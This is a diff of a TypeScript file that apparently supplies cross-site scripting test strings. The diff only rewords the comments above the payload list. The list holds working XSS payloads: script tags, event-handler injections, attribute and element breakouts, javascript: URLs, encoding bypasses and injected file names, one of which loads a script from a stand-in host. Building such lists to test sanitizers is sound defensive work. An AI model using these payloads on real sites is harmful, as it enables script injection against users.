@@ -1,9 +1,9 @@
-// What people write who want a page to run it. Each line tries another way out of text: elements,
-// attributes, addresses, encodings, markup of ours, of scripts and of style sheets.
+// Attack strings. Each line tries another way to run code from text: elements, attributes, URLs,
+// encodings, our markup, scripts and style sheets.
 
-/** Every one of them calls `alert` if it gets its way. */
+/** Each of them calls `alert` if it succeeds. */
 export const PAYLOADS: readonly string[] = [
-  // Elements that run by themselves.
+  // Elements that run on their own.
   `<script>alert(1)</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
   `<scr<script>ipt>alert(1)</scr</script>ipt>`,
@@ -18,7 +18,7 @@ export const PAYLOADS: readonly string[] = [
   `<math><mtext><script>alert(1)</script></mtext></math>`,
   `<template><script>alert(1)</script></template>`,
   `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
-  // Handlers.
+  // Event handlers.
   `<img src=x onerror=alert(1)>`,
   `<IMG SRC=x OnErRoR=alert(1)>`,
   `<img/src=x/onerror=alert(1)>`,
@@ -75,7 +75,7 @@ export const PAYLOADS: readonly string[] = [
   `<div style="background:url(javascript:alert(1))">x</div>`,
   `<div style="width:expression(alert(1))">x</div>`,
   `<xss style="position:fixed;inset:0" tabindex=0 autofocus onfocus=alert(1)>`,
-  // Out of an attribute, out of an element.
+  // Breaking out of an attribute or an element.
   `"><script>alert(1)</script>`,
   `'><script>alert(1)</script>`,
   `" onmouseover=alert(1) x="`,
@@ -95,7 +95,7 @@ export const PAYLOADS: readonly string[] = [
   `</select><img src=x onerror=alert(1)>`,
   `</pre></code><img src=x onerror=alert(1)>`,
   `</li></ol></main><img src=x onerror=alert(1)>`,
-  // Into scripts and data that pages carry.
+  // Breaking into inline scripts and data.
   `'-alert(1)-'`,
   `";alert(1);//`,
   `\\";alert(1);//`,
@@ -109,7 +109,7 @@ export const PAYLOADS: readonly string[] = [
   `\u2028alert(1)\u2029`,
   `<!--<script>`,
   `</script`,
-  // Addresses.
+  // URLs.
   `javascript:alert(1)`,
   `JaVaScRiPt:alert(1)`,
   `java\tscript:alert(1)`,
@@ -142,7 +142,7 @@ export const PAYLOADS: readonly string[] = [
   `\`<img src=x onerror=alert(1)>\``,
   `**<img src=x onerror=alert(1)>**`,
   `> <img src=x onerror=alert(1)>`,
-  // Encodings that a filter may miss and a browser may not.
+  // Encodings that a filter can miss but a browser decodes.
   `＜script＞alert(1)＜/script＞`,
   `\u00bcscript\u00bealert(1)\u00bc/script\u00be`,
   `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
@@ -154,7 +154,7 @@ export const PAYLOADS: readonly string[] = [
   `\\x3cscript\\x3ealert(1)\\x3c/script\\x3e`,
   `\u202e<script>alert(1)</script>`,
   `<\u017fcript>alert(1)</\u017fcript>`,
-  // Names of files.
+  // File names.
   `"><img src=x onerror=alert(1)>.png`,
   `x.svg" onload="alert(1)`,
   `../../<script>alert(1)</script>.html`,
